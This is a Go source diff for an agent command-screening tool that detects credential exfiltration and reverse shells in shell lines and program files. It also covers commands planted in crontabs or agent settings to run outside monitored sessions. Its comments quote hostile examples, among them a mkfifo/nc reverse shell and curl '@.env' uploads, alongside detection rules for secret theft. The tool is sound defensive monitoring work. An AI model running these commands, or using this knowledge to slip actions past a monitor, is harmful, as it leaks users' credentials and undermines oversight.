@@ -70,12 +70,21 @@ func (r Report) Worst() (Finding, bool) {
 }
 
 // Screen judges a command line.
-func Screen(cmd string) Report {
+func Screen(cmd string) Report { return screenLine(cmd, false) }
+
+// ScreenUnwatched judges a command line that runs where no hook sees
+// it: written to a crontab, an agent's settings or a skill, it runs
+// later and outside any session, so a credential file it sends to this
+// machine or its network (a forwarded port, a tunnel, a relay) is
+// refused like one sent anywhere else.
+func ScreenUnwatched(cmd string) Report { return screenLine(cmd, true) }
+
+func screenLine(cmd string, unwatched bool) Report {
 	if strings.TrimSpace(cmd) == "" {
 		return Report{}
 	}
 	l := shellnorm.Parse(cmd)
-	s := &screen{l: l}
+	s := &screen{l: l, unwatched: unwatched}
 	if len(cmd) > shellnorm.MaxInput {
 		// What lies past the bound is unread: padding must not hide it.
 		s.add(Unscreened, true, fmt.Sprintf("the command line is %d bytes, past the %d flowd reads; no agent needs one that long", len(cmd), shellnorm.MaxInput))
@@ -98,6 +107,8 @@ func Screen(cmd string) Report {
 type screen struct {
 	l shellnorm.Line
 	r Report
+	// unwatched: no address is local (ScreenUnwatched).
+	unwatched bool
 }
 
 func (s *screen) add(rule string, severe bool, reason string) {
@@ -228,6 +239,7 @@ func (s *screen) command(i int) {
 	if n == "gh" {
 		s.gh(words)
 	}
+	s.credentialOut(c, words, n)
 	if readers[n] {
 		for _, a := range words[1:] {
 			if !strings.HasPrefix(a, "-") || strings.Contains(a, "=") {
@@ -260,10 +272,7 @@ func (s *screen) sensitive(p string) {
 func (s *screen) net(i int, c shellnorm.Command, words []string, raw bool) {
 	n := name(words)
 	dest := destination(words)
-	local := false
-	if t, ok := ssrf.Host(hostOf(dest)); ok && dest != "" {
-		local = t.Kind != ssrf.Metadata && t.Disguised == ""
-	}
+	local := s.local(dest)
 	if local {
 		s.r.Local = true
 	} else {
@@ -298,8 +307,8 @@ func (s *screen) net(i int, c shellnorm.Command, words []string, raw bool) {
 			}
 		}
 		if n == "scp" || n == "rsync" {
-			for _, a := range words[1 : len(words)-1] {
-				if !strings.HasPrefix(a, "-") && !strings.Contains(a, ":") {
+			for j, a := range words[1 : len(words)-1] {
+				if !strings.HasPrefix(a, "-") && !strings.Contains(a, ":") && !authOption(words[j]) { // scp -i key
 					sent = append(sent, s.pathSource(a))
 				}
 			}
@@ -334,6 +343,172 @@ func (s *screen) judgeSent(n, dest string, sent []string) {
 	case len(plain) > 0:
 		s.add(Upload, false, fmt.Sprintf("%s sends local data (%s)%s", n, clip(strings.Join(plain, ", ")), to))
 	}
+}
+
+// services are programs whose work is talking to a service on another
+// host: what they are handed goes there (a cloud bucket, a code host, a
+// package index, a mail relay, an ssh server).
+var services = map[string]bool{"ssh": true, "gh": true, "glab": true, "aws": true, "gcloud": true, "gsutil": true,
+	"az": true, "azcopy": true, "rclone": true, "s3cmd": true, "twine": true, "mail": true, "mailx": true, "sendmail": true,
+	"mutt": true, "msmtp": true, "swaks": true}
+
+// credentialOut refuses, whatever the program, a command that names a
+// credential file it sends (an operand, an @file value, a non-credential
+// option's value, stdin) and reaches another host (a URL, a remote spec,
+// an address, or a program that talks to a service). A credential file
+// given to authenticate (ssh -i, --key-file, --kubeconfig, --env-file)
+// or to receive a download (-o, or the last operand after a remote
+// source) is not sent.
+func (s *screen) credentialOut(c shellnorm.Command, words []string, n string) {
+	dest, remote := s.reaches(words, n)
+	if !remote {
+		return
+	}
+	var sent []string
+	note := func(p string) {
+		if secretfile.Why(p) != "" {
+			sent = append(sent, s.pathSource(p))
+		}
+	}
+	for _, r := range c.Redirects {
+		if strings.HasPrefix(r, "<") && !strings.HasPrefix(r, "<<") {
+			note(strings.TrimLeft(r, "<"))
+		}
+	}
+	if c.PipedFrom >= 0 && n != "curl" && n != "wget" { // curl and wget send stdin only when told (net)
+		for _, x := range s.fed(c.PipedFrom, 0) {
+			if strings.HasSuffix(x, ")") {
+				sent = append(sent, x)
+			}
+		}
+	}
+	args := words[1:]
+	uploads := slices.ContainsFunc(args, func(a string) bool {
+		return a == "put" || a == "upload" || a == "push" || a == "send" || strings.HasPrefix(a, "--upload") || a == "-u" && strings.HasSuffix(n, "ftp")
+	})
+	last := len(args) - 1
+	for last >= 0 && strings.HasPrefix(args[last], "-") {
+		last--
+	}
+	for j, a := range args {
+		if k := strings.Index(a, "@"); k >= 0 && (k == 0 || strings.ContainsRune("=:", rune(a[k-1]))) {
+			p := a[k+1:]
+			if end := strings.IndexByte(p, ';'); end >= 0 {
+				p = p[:end]
+			}
+			note(p) // -F body=@.env, httpie's @.env and field=@.env
+			continue
+		}
+		if strings.ContainsAny(a, " \t\n") {
+			// A client's own command language: smbclient -c "put .env",
+			// lftp -e "put .env".
+			f := strings.Fields(a)
+			for k := 1; k < len(f); k++ {
+				if v := strings.ToLower(f[k-1]); v == "put" || v == "mput" || v == "append" || v == "send" {
+					note(f[k])
+				}
+			}
+			continue
+		}
+		if strings.HasPrefix(a, "--") {
+			if k := strings.IndexByte(a, '='); k > 0 && !authOption(a[:k]) {
+				note(a[k+1:])
+			}
+			continue
+		}
+		if strings.HasPrefix(a, "-") || j > 0 && !strings.Contains(args[j-1], "=") && authOption(args[j-1]) {
+			continue
+		}
+		if j == last && !uploads && slices.ContainsFunc(args[:j], remoteSpec) {
+			continue // cp s3://b/.env .env: a download
+		}
+		if !remoteSpec(a) { // host:.env is a file over there
+			note(a)
+		}
+	}
+	s.secretSent(n, dest, sent)
+}
+
+// authOption reports whether an option's value is a file the program
+// reads to authenticate, writes its output to or leaves out (--exclude),
+// not one it sends.
+func authOption(opt string) bool {
+	if !strings.HasPrefix(opt, "-") {
+		return false
+	}
+	o := strings.ToLower(strings.TrimLeft(opt, "-"))
+	if len(o) == 1 {
+		return strings.Contains("iEKoOFcw", opt[len(opt)-1:])
+	}
+	return containsAny(o, []string{"key", "cert", "ca", "identity", "config", "cred", "auth", "token", "pass", "netrc",
+		"env", "vault", "kube", "profile", "out", "dump", "cookie", "trust", "jar", "save", "log", "exclude", "ignore", "skip"})
+}
+
+// reaches reports whether a command talks to another host, and where.
+func (s *screen) reaches(words []string, n string) (string, bool) {
+	dest := ""
+	for _, a := range words[1:] {
+		if k := strings.IndexByte(a, '='); strings.HasPrefix(a, "--") && k > 0 {
+			a = a[k+1:]
+		}
+		if _, ok := remoteWord(a); ok && !s.local(a) {
+			return a, true
+		}
+	}
+	if _, ok := netCommands[n]; ok {
+		dest = destination(words)
+		return dest, !s.local(dest)
+	}
+	if services[n] || n == "git" && slices.Contains(words, "send-email") {
+		return n, true
+	}
+	return "", false
+}
+
+// local reports whether a destination (a URL, user@host:path, a host)
+// is this machine or its network, where a request sends nothing out.
+func (s *screen) local(dest string) bool {
+	if s.unwatched || dest == "" {
+		return false
+	}
+	t, ok := ssrf.Host(hostOf(dest))
+	return ok && t.Kind != ssrf.Metadata && t.Disguised == ""
+}
+
+// remoteWord returns the host a word names as a place on another host:
+// a URL (s3://, gs://, https://…), an SMB share (//host/share), a
+// user@host address, or host:path with a dotted host.
+func remoteWord(a string) (string, bool) {
+	if i := strings.Index(a, "://"); i > 0 && !strings.HasPrefix(strings.ToLower(a), "file:") {
+		return hostOf(a), true
+	}
+	if strings.HasPrefix(a, "//") && len(a) > 2 && a[2] != '/' {
+		h, _, _ := strings.Cut(a[2:], "/")
+		return h, true
+	}
+	if strings.ContainsAny(a, " /") && !strings.Contains(a, ":") || strings.HasPrefix(a, "-") || strings.HasPrefix(a, "@") {
+		return "", false
+	}
+	if at := strings.IndexByte(a, '@'); at > 0 {
+		h := hostOf(a)
+		if strings.Contains(h, ".") && !strings.ContainsAny(h, "/=") {
+			return h, true
+		}
+	}
+	if c := strings.IndexByte(a, ':'); c > 0 && !strings.ContainsAny(a[:c], "/=@") && strings.Contains(a[:c], ".") && !strings.HasPrefix(a, ".") {
+		return a[:c], true
+	}
+	return "", false
+}
+
+// remoteSpec reports whether an operand names a place elsewhere: a
+// remote word, or a program's own remote (rclone's remote:path).
+func remoteSpec(a string) bool {
+	if _, ok := remoteWord(a); ok {
+		return true
+	}
+	c := strings.IndexByte(a, ':')
+	return c > 1 && !strings.HasPrefix(a, "-") && !strings.ContainsAny(a[:c], "/=@ ")
 }
 
 // gh judges the GitHub CLI's commands that upload local files: a gist
@@ -613,23 +788,7 @@ func (s *screen) interpreter(i int, c shellnorm.Command, words []string, n strin
 			}
 		}
 	}
-	code := strings.ToLower(strings.Join(words[1:], " "))
-	if containsAny(code, socketMarkers) && containsAny(code, shellMarkers) {
-		s.add(ReverseShell, true, fmt.Sprintf("%s is given code that connects a shell to a network socket", n))
-	}
-	if strings.Contains(code, "://") || strings.Contains(code, "socket") || strings.Contains(code, "urllib") ||
-		strings.Contains(code, "requests.") || strings.Contains(code, "fetch(") || strings.Contains(code, "http.") {
-		s.r.Network = true
-		if opensFile(code) {
-			// Code that opens a file and reaches the network sends the
-			// file itself: nothing of it passes through the agent.
-			var sent []string
-			for _, p := range quotedPaths(strings.Join(words[1:], " ")) {
-				sent = append(sent, s.pathSource(p))
-			}
-			s.secretSent(n, "the network", sent)
-		}
-	}
+	s.code(n, strings.Join(words[1:], " "), true)
 	// A shell whose output goes to a socket and whose input comes from
 	// one (mkfifo f; sh -i <f | nc host 4444 >f).
 	if shellnorm.IsShell(n) {
@@ -639,6 +798,91 @@ func (s *screen) interpreter(i int, c shellnorm.Command, words []string, n strin
 			}
 		}
 	}
+}
+
+// code judges code given to the interpreter n: one that wires a shell
+// to a socket (when shells), or opens a credential file and reaches the
+// network.
+func (s *screen) code(n, raw string, shells bool) {
+	code := strings.ToLower(raw)
+	if shells && containsAny(code, socketMarkers) && containsAny(code, shellMarkers) {
+		s.add(ReverseShell, true, fmt.Sprintf("%s is given code that connects a shell to a network socket", n))
+	}
+	if reachesNetwork(code) {
+		s.r.Network = true
+		if opensFile(code) {
+			// Code that opens a file and reaches the network sends the
+			// file itself: nothing of it passes through the agent.
+			var sent []string
+			for _, p := range quotedPaths(raw) {
+				sent = append(sent, s.pathSource(p))
+			}
+			s.secretSent(n, "the network", sent)
+		}
+	}
+}
+
+func reachesNetwork(code string) bool {
+	return strings.Contains(code, "://") || strings.Contains(code, "socket") || strings.Contains(code, "urllib") ||
+		strings.Contains(code, "requests.") || strings.Contains(code, "fetch(") || strings.Contains(code, "http.")
+}
+
+// programExts are the extensions of files an interpreter runs by name.
+var programExts = map[string]string{".py": "python3", ".pyw": "python3", ".js": "node", ".mjs": "node", ".cjs": "node",
+	".ts": "node", ".mts": "node", ".cts": "node", ".rb": "ruby", ".pl": "perl", ".pm": "perl", ".php": "php",
+	".ps1": "pwsh", ".lua": "lua", ".tcl": "tclsh"}
+
+// Program returns the interpreter that runs text written to path, by the
+// path's extension or the text's #! line, when it is not a shell
+// (Script), or "".
+func Program(path, text string) string {
+	line, _, _ := strings.Cut(strings.TrimSpace(text), "\n")
+	if rest, ok := strings.CutPrefix(line, "#!"); ok {
+		for _, w := range strings.Fields(rest) {
+			if n := name([]string{w}); n != "env" && !strings.HasPrefix(w, "-") {
+				if interpreter(n) && !shellnorm.IsShell(n) {
+					return n
+				}
+				return ""
+			}
+		}
+	}
+	if Script(path, text) {
+		return ""
+	}
+	p := strings.ToLower(path)
+	if i := strings.LastIndexByte(p, '.'); i >= 0 && !strings.ContainsAny(p[i:], `/\`) {
+		return programExts[p[i:]]
+	}
+	return ""
+}
+
+// ScreenProgram judges a program file as the code its interpreter n runs
+// (python3 tools/sync.py) by the rules for inline code (python3 -c),
+// statement by statement (a line): one that opens a credential file and
+// sends it is refused as its -c form is. A file that opens a credential
+// file in one statement and reaches the network in another is asked
+// about: reading a key to call its own service is ordinary work, and
+// so is sending the file in two steps.
+func ScreenProgram(n, text string) Report {
+	s := &screen{}
+	for _, line := range strings.Split(text, "\n") {
+		s.code(n, line, false)
+	}
+	// A program imports socket and subprocess for many honest ends; a
+	// socket wired to the descriptors of a spawned shell has none.
+	if l := strings.ToLower(text); containsAny(l, socketMarkers) && containsAny(l, []string{"dup2", "pty.spawn"}) {
+		s.add(ReverseShell, true, fmt.Sprintf("%s is given code that connects a shell to a network socket", n))
+	}
+	if _, ok := s.r.Worst(); !ok && reachesNetwork(strings.ToLower(text)) && opensFile(strings.ToLower(text)) {
+		for _, p := range quotedPaths(text) {
+			if why := secretfile.Why(p); why != "" {
+				s.add(Upload, false, fmt.Sprintf("%s opens %s (%s) and reaches the network", n, p, why))
+				break
+			}
+		}
+	}
+	return s.r
 }
 
 // fetchedBy returns the fetching command whose output the command at i
